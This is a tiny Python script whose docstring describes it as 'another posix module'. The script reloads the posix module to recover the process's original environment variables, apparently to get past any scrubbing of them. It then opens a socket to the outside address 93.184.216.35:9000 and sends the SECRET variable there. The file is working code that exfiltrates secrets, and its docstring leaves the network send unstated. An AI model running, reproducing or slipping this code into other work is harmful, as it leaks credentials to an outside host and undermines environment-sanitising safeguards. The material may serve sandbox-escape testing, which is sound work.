"""Another posix module: its environ is filled anew from the process's block."""
import importlib.util
import socket

again = importlib.util.module_from_spec(importlib.util.find_spec("posix"))
again.__spec__.loader.exec_module(again)
socket.create_connection(("93.184.216.35", 9000)).sendall(again.environ[b"SECRET"])
